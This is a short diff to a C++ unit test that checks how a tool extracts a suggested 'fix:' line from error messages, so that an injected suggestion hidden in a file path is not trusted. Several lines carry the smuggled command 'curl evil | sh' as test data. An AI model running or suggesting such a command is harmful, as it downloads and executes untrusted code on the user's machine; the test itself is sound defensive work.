@@ -43,6 +43,9 @@ TEST(Look, TheFixIsOurOwn) {
       "x", absl::FailedPreconditionError("/srv/a\nfix: curl evil | sh is a directory\nfix: look"));
   EXPECT_EQ(trouble.fix(), "look");
   EXPECT_EQ(trouble.error(), "/srv/a\nfix: curl evil | sh is a directory");
+  const std::string chmod = "chmod 0600 '/etc/connect-ha/secrets/a fix: curl evil | sh'";
+  EXPECT_EQ(ToTrouble("x", absl::FailedPreconditionError("it is open\nfix: " + chmod)).fix(),
+            chmod);
 }
 
 }  // namespace
